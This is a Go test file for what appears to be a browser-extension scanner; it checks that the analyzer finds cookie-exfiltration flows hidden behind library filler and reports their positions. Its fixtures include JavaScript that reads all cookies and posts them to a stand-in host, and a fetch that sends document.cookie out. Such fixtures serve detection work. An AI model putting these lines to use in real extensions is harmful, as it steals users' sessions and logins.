package analysis

import (
	"context"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior/syntax"
	"github.com/google/go-cmp/cmp"
)

// filler is code of a library: many words, none of which the engine looks for.
func filler2(n int) string { return strings.Repeat("if(a.b>c.d){e.f(g,h/2)}", n) }

// What is left out must not hide what stands beside it, nor move it.
func TestOutlineKeepsFlows(t *testing.T) {
	library := "(()=>{var e={1:(e,t,n)=>{" + filler2(800) + ";e.exports=g},};\n"
	code := library + "chrome.cookies.getAll({},c=>{fetch('https://collect.example/',{method:'POST',body:JSON.stringify(c)})})})();"
	files := fstest.MapFS{"bg.js": {Data: []byte(code)}}
	m := &manifests.Manifest{Background: manifests.Background{ServiceWorker: "bg.js"}}
	r := Analyze(context.Background(), Input{Manifest: m, Files: files})
	if len(r.Flows) != 1 || r.Flows[0].Source != "cookies" || r.Flows[0].Host != "collect.example" {
		t.Fatalf("flows = %+v", r.Flows)
	}
	first := r.Flows[0].Steps[0]
	if first.Line != 2 || first.Column != 1 {
		t.Errorf("the flow begins at %d:%d, want 2:1", first.Line, first.Column)
	}
	for _, c := range r.Calls {
		if strings.Contains(c.API, syntax.ColdName) {
			t.Errorf("a call of %s is reported", c.API)
		}
	}
	if again := Analyze(context.Background(), Input{Manifest: m, Files: files}); !cmp.Equal(r, again) {
		t.Error(cmp.Diff(r, again))
	}
}

func TestIdle(t *testing.T) {
	chunk := []byte("fetch('https://a.example/'+document.cookie);" + filler2(20_000))
	files := fstest.MapFS{
		"bg.js":                {Data: []byte(`load("js/"+n+"."+{1:"e0c965d6"}[n]+".chunk.js")`)},
		"js/1.e0c965d6.js":     {Data: chunk},
		"js/2.aaaa65d6.js":     {Data: chunk},
		"js/3.small-ffff11.js": {Data: []byte("chrome.tabs.query({},f)")},
	}
	m := &manifests.Manifest{Background: manifests.Background{ServiceWorker: "bg.js"}}
	units, problems := collect(m, files)
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	got := map[string]bool{}
	for _, u := range units {
		got[u.File] = u.text != nil
	}
	want := map[string]bool{"bg.js": true, "js/1.e0c965d6.js": true, "js/2.aaaa65d6.js": false, "js/3.small-ffff11.js": true}
	if d := cmp.Diff(want, got); d != "" {
		t.Error("scripts that are parsed (-want +got):\n" + d)
	}
}
